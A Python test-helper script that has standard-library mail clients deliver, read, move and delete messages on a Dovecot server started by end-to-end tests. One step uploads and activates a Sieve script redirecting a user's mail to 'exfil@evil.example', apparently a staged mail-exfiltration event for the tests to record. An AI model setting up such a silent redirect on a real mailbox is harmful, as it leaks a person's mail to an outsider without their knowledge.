#!/usr/bin/env python3
"""Real mail clients acting against the Dovecot that the end-to-end tests start (dovecot.rs).

Only the standard library: imaplib, poplib, smtplib.LMTP and a ManageSieve exchange over a
socket. Every server reply that is not the expected one ends the script with exit code 1 and
says which step failed, so that a test never asserts on records of a story that did not happen.

    dovecot_story.py story HOST IMAP POP3 LMTP SIEVE
    dovecot_story.py session HOST IMAP USER PASSWORD MARKER
    dovecot_story.py loop HOST IMAP USER PASSWORD PREFIX STOPFILE
    dovecot_story.py deliver HOST LMTP RECIPIENT SUBJECT MESSAGE-ID
    dovecot_story.py login HOST IMAP USER PASSWORD
"""

import base64
import imaplib
import os
import poplib
import smtplib
import socket
import sys
import threading
import time


def fail(step, detail):
    print(f"FAILED {step}: {detail}", flush=True)
    sys.exit(1)


def check(step, typ, data=None):
    if typ != "OK":
        fail(step, f"{typ} {data!r}")
    print(f"ok {step}", flush=True)


def message(sender, recipient, subject, msgid, body):
    return (
        f"From: {sender}\r\nTo: {recipient}\r\nSubject: {subject}\r\n"
        f"Message-ID: {msgid}\r\nDate: Tue, 24 Nov 2026 10:00:00 +0000\r\n\r\n{body}\r\n"
    ).encode()


# The messages of the story: (recipient, sender, subject, Message-ID). Their UIDs in the
# recipient's INBOX follow this order: alice 1, 2, 3 and bob 1.
MESSAGES = [
    ("alice", "erin@example.org", "Quarterly numbers", "<q1@example.org>"),
    ("alice", "frank@example.org", "Invoice 2211", "<inv-2211@example.org>"),
    ("alice", "news@example.org", "Old newsletter", "<news-9@example.org>"),
    ("bob", "erin@example.org", "Team offsite", "<offsite-3@example.org>"),
]
DRAFT = ("alice@example.com", "Draft reply", "<draft-1@example.com>")


def deliver(host, port, items):
    lmtp = smtplib.LMTP(host, port)
    for rcpt, sender, subject, msgid in items:
        refused = lmtp.sendmail(
            sender, [rcpt], message(sender, f"{rcpt}@example.com", subject, msgid, "Hello.")
        )
        if refused:
            fail(f"deliver {msgid}", refused)
        print(f"ok deliver {msgid} to {rcpt}", flush=True)
    lmtp.quit()


def wrong_password(host, port, errors):
    try:
        x = imaplib.IMAP4(host, port)
        try:
            x.login("alice", "not-her-password")
            errors.append("the wrong password was accepted")
        except imaplib.IMAP4.error:
            print("ok wrong password refused", flush=True)
        x.logout()
    except Exception as e:  # noqa: BLE001 - reported by the main thread
        errors.append(f"wrong password: {e!r}")


def sieve_reply(f):
    lines = []
    while True:
        line = f.readline()
        if not line:
            fail("managesieve", f"connection closed after {lines!r}")
        lines.append(line)
        if line.startswith((b"OK", b"NO", b"BYE")):
            return lines


def managesieve(host, port):
    s = socket.create_connection((host, port), timeout=30)
    f = s.makefile("rwb")
    sieve_reply(f)
    auth = base64.b64encode(b"\0alice\0alicepw").decode()
    script = b'require ["copy"];\r\nredirect :copy "exfil@evil.example";\r\n'
    for step, command in [
        ("sieve AUTHENTICATE", f'AUTHENTICATE "PLAIN" "{auth}"\r\n'.encode()),
        ("sieve PUTSCRIPT", b'PUTSCRIPT "forward" {%d+}\r\n' % len(script) + script + b"\r\n"),
        ("sieve SETACTIVE", b'SETACTIVE "forward"\r\n'),
        ("sieve LOGOUT", b"LOGOUT\r\n"),
    ]:
        f.write(command)
        f.flush()
        reply = sieve_reply(f)
        check(step, "OK" if reply[-1].startswith(b"OK") else "NO", reply)
    s.close()


def story(host, imap_port, pop3_port, lmtp_port, sieve_port):
    deliver(host, lmtp_port, MESSAGES)

    # A wrong password for alice, concurrently with her own session: Dovecot answers it
    # only after its authentication failure delay.
    errors = []
    wrong = threading.Thread(target=wrong_password, args=(host, imap_port, errors))
    wrong.start()

    # The owner: grants bob read access, reads, searches, appends, moves one message to
    # Trash and deletes another.
    a = imaplib.IMAP4(host, imap_port)
    check("alice LOGIN", *a.login("alice", "alicepw"))
    check("alice SETACL", *a._simple_command("SETACL", "INBOX", "bob", "lrs"))
    check("alice SELECT", *a.select("INBOX"))
    typ, data = a.fetch("1", "(BODY[])")
    check("alice FETCH", typ, data)
    if b"Quarterly numbers" not in data[0][1]:
        fail("alice FETCH", data)
    check("alice SEARCH", *a.search(None, "SUBJECT", '"Quarterly"'))
    sender, subject, msgid = DRAFT
    draft = message(sender, "erin@example.org", subject, msgid, "Will do.")
    check("alice APPEND", *a.append("INBOX", "(\\Seen)", None, draft))
    check("alice UID MOVE", *a._simple_command("UID", "MOVE", "2", "Trash"))
    check("alice UID STORE", *a.uid("STORE", "3", "+FLAGS", "(\\Deleted)"))
    check("alice EXPUNGE", *a.expunge())
    a.logout()
    print("ok alice LOGOUT", flush=True)

    wrong.join()
    if errors:
        fail("wrong password", errors)

    # The delegate: opens alice's INBOX through the shared namespace and reads message 1.
    b = imaplib.IMAP4(host, imap_port)
    check("bob LOGIN", *b.login("bob", "bobpw"))
    check("bob SELECT", *b.select("shared/alice/INBOX"))
    typ, data = b.fetch("1", "(BODY[])")
    check("bob FETCH", typ, data)
    if b"Quarterly numbers" not in data[0][1]:
        fail("bob FETCH", data)
    b.logout()
    print("ok bob LOGOUT", flush=True)

    # The admin: the master user logs in as alice and reads the message she moved to Trash.
    m = imaplib.IMAP4(host, imap_port)
    check("admin LOGIN", *m.login("alice*admin", "adminpw"))
    check("admin SELECT", *m.select("Trash"))
    typ, data = m.fetch("1", "(BODY[])")
    check("admin FETCH", typ, data)
    if b"Invoice 2211" not in data[0][1]:
        fail("admin FETCH", data)
    m.logout()
    print("ok admin LOGOUT", flush=True)

    # A Sieve script that redirects alice's mail, uploaded and activated.
    managesieve(host, sieve_port)

    # bob reads his own message over POP3.
    p = poplib.POP3(host, pop3_port, timeout=30)
    p.user("bob")
    p.pass_("bobpw")
    count, _ = p.stat()
    if count != 1:
        fail("bob POP3 STAT", count)
    _, lines, _ = p.retr(1)
    if b"Subject: Team offsite" not in lines:
        fail("bob POP3 RETR", lines)
    p.quit()
    print("ok bob POP3", flush=True)


def session(host, imap_port, user, password, marker):
    """One IMAP session whose records can be told apart by the folder it creates."""
    c = imaplib.IMAP4(host, imap_port)
    check(f"{marker} LOGIN", *c.login(user, password))
    check(f"{marker} CREATE", *c.create(marker))
    check(f"{marker} SELECT", *c.select("INBOX"))
    check(f"{marker} FETCH", *c.fetch("1", "(BODY[])"))
    c.logout()
    print(f"done {marker} {time.time():.3f}", flush=True)


def main(argv):
    if len(argv) < 2:
        fail("arguments", __doc__)
    what, args = argv[1], argv[2:]
    if what == "story":
        host, imap_port, pop3_port, lmtp_port, sieve_port = args
        story(host, int(imap_port), int(pop3_port), int(lmtp_port), int(sieve_port))
    elif what == "session":
        host, imap_port, user, password, marker = args
        session(host, int(imap_port), user, password, marker)
    elif what == "loop":
        host, imap_port, user, password, prefix, stopfile = args
        n = 0
        while not os.path.exists(stopfile):
            n += 1
            session(host, int(imap_port), user, password, f"{prefix}-{n}")
            time.sleep(0.05)
    elif what == "deliver":
        host, lmtp_port, rcpt, subject, msgid = args
        deliver(host, int(lmtp_port), [(rcpt, "erin@example.org", subject, msgid)])
    elif what == "login":
        host, imap_port, user, password = args
        c = imaplib.IMAP4(host, int(imap_port))
        check(f"{user} LOGIN", *c.login(user, password))
        c.logout()
    else:
        fail("arguments", f"unknown command {what!r}\n{__doc__}")
    print("story complete", flush=True)


if __name__ == "__main__":
    main(sys.argv)
